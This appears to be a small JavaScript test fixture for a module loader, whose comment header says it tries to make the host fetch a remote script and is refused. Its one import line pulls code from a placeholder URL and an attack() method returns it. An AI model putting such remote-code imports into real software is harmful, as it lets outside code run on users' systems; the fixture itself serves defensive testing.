/*
tries: have the host fetch a script
harm: code
stopped by: loader
refused: "'https://example.com/x.js'"
*/
import x from "https://example.com/x.js";

export class Module {
  attack() {
    return x;
  }
}
